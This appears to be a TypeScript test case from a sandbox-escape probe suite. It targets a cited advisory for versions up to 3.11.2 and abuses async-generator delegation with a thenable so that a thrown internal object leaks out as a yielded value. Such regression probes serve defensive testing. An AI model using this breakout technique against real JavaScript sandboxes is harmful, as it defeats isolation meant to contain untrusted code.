import { attempted } from '../src/plunder.ts';
import { type BreakOut, late } from '../src/probe.ts';
import { thenable, unspeakable } from '../src/reach.ts';

async function* delegating(): AsyncGenerator {
  yield* { [Symbol.asyncIterator]: () => ({ next: async (value: unknown) => ({ value, done: false }) }) };
}

export default {
  name: 'async-generator',
  advisory: 'CVE-2026-45411, GHSA-248r-7h7q-cr24',
  versions: '≤ 3.11.2',
  idea: 'A generator that delegates is told to return a thenable: what it throws is caught by the engine and yielded as a value',
  attempt() {
    const iterator = delegating();
    const keep = (value: unknown): void => void late.push(value);
    const throwing = thenable(() => unspeakable().stack);
    attempted(() => iterator.next().then(() => iterator.return(throwing).then(keep, keep), keep));
    attempted(() => iterator.throw(throwing).then(keep, keep));
    return [iterator, Object.getPrototypeOf(iterator), late];
  },
} satisfies BreakOut;
